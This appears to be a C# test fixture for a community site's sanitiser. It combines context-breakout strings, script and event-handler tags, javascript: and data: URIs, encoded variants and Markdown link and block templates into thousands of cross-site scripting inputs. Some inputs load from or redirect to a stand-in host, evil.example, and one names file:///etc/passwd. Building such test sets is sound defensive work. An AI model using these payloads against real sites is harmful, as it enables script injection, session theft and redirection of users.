namespace Community.Tests.Attacks;

/// <summary>Texts that try to become script, markup or a request to another host; combined from parts into thousands.</summary>
public static class Vectors
{
    /// <summary>The call that must never run: the page's hook would report it.</summary>
    public const string Run = "xss(1)";

    static readonly string[] scripts =
    [
        "javascript:" + Run,
        "JaVaScRiPt:" + Run,
        "java\tscript:" + Run,
        "java\nscript:" + Run,
        "&#106;avascript:" + Run,
        "&#x6A;avascript&colon;" + Run,
        " javascript:" + Run,
        "\u0001javascript:" + Run,
        "javascript&#58;" + Run,
        "vbscript:" + Run,
        "data:text/html,<script>" + Run + "</script>",
        "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
        "data:image/svg+xml,<svg onload=" + Run + ">",
        "//evil.example/x",
        "\\\\evil.example/x",
        "/\\evil.example/x",
        "https://evil.example/x",
        "blob:x",
        "file:///etc/passwd",
        "feed:javascript:" + Run,
        "view-source:javascript:" + Run,
    ];

    static readonly string[] tags =
    [
        "<script>" + Run + "</script>",
        "<ScRiPt >" + Run + "</sCrIpT>",
        "<script/x>" + Run + "</script>",
        "<scr<script>ipt>" + Run + "</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=" + Run + ">",
        "<img src=//evil.example/x>",
        "<svg onload=" + Run + ">",
        "<svg><script>" + Run + "</script></svg>",
        "<svg/onload=" + Run + "//",
        "<math><mtext><table><mglyph><style><img src=x onerror=" + Run + ">",
        "<iframe srcdoc='<script>" + Run + "</script>'></iframe>",
        "<iframe src=javascript:" + Run + "></iframe>",
        "<object data=javascript:" + Run + ">",
        "<embed src=//evil.example/x>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<form action=//evil.example/><input name=a autofocus onfocus=" + Run + ">",
        "<details open ontoggle=" + Run + ">",
        "<body onload=" + Run + ">",
        "<video><source onerror=" + Run + ">",
        "<audio src=x onerror=" + Run + ">",
        "<marquee onstart=" + Run + ">",
        "<a href=javascript:" + Run + ">x</a>",
        "<template><script>" + Run + "</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=" + Run + ">\">",
        "<!--><img src=x onerror=" + Run + ">-->",
        "<![CDATA[><img src=x onerror=" + Run + ">]]>",
        "<?xml version=1?><x xmlns=http://www.w3.org/1999/xhtml onload=" + Run + ">",
        "&lt;script&gt;" + Run + "&lt;/script&gt;",
        "&#60;img src=x onerror=" + Run + "&#62;",
        "+ADw-script+AD4-" + Run + "+ADw-/script+AD4-",
        "\u00bcscript\u00be" + Run + "\u00bc/script\u00be",
        "\uff1cscript\uff1e" + Run,
    ];

    /// <summary>
    /// Ways to break out of a value's context: text, quoted and unquoted attributes, title, textarea, style, script, comment, URL.
    /// </summary>
    static readonly string[] exits =
    [
        "",
        "\"",
        "'",
        "\">",
        "'>",
        "`>",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "\\\"",
        "&quot;>",
        "\u2028",
        "}}",
        ");",
        "</option></select>",
        "\" autofocus onfocus=" + Run + " x=\"",
        "' onmouseover=" + Run + " x='",
    ];

    /// <summary>Values for names, titles and everything else that is not Markdown: every exit before every tag.</summary>
    public static IEnumerable<string> Plain => from exit in exits from tag in tags select exit + tag;

    static readonly string[] links =
    [
        "[x]({0})",
        "[x](<{0}>)",
        "[x]({0} \"t\" onclick=xss(1))",
        "![x]({0})",
        "![]({0})",
        "<{0}>",
        "{0}",
        "[x]\n\n[x]: {0}",
        "[x]: {0} \"</a><img src=x onerror=xss(1)>\"\n\n[x]",
        "[![x]({0})]({0})",
        "[<b onclick=xss(1)>]({0})",
        "[x]({0}\n)",
        "[x]( {0})",
        "# [x]({0})",
        "> [x]({0})",
        "- [x]({0})",
        "|a|\n|-|\n|[x]({0})|",
        "~~[x]({0})~~",
        "**[x]({0})**",
        "[x](&#x{0})",
    ];

    static readonly string[] blocks =
    [
        "{0}",
        "`{0}`",
        "```{0}\n{0}\n```",
        "    {0}",
        "> {0}",
        "- {0}",
        "1. {0}",
        "# {0}",
        "*{0}*",
        "|{0}|\n|-|\n|{0}|",
        "[{0}](/x)",
        "[x](/x '{0}')",
        "[x](/{0})",
        "![{0}](/x.png)",
        "<{0}>",
        "~~{0}~~",
        "[^1]: {0}",
        "{{{0}}}",
        "a\n===\n{0}",
        "{0}\n---",
        "\\{0}",
        "[x]: /x '{0}'\n\n[x]",
    ];

    /// <summary>Markdown: every address in every kind of link, every tag in every kind of block.</summary>
    public static IEnumerable<string> Markdown =>
        (from link in links from script in scripts select link.Replace("{0}", script))
        .Concat(from block in blocks from tag in tags.Concat(exits.Skip(1).Select(e => e + tags[5])) select block.Replace("{0}", tag));
}
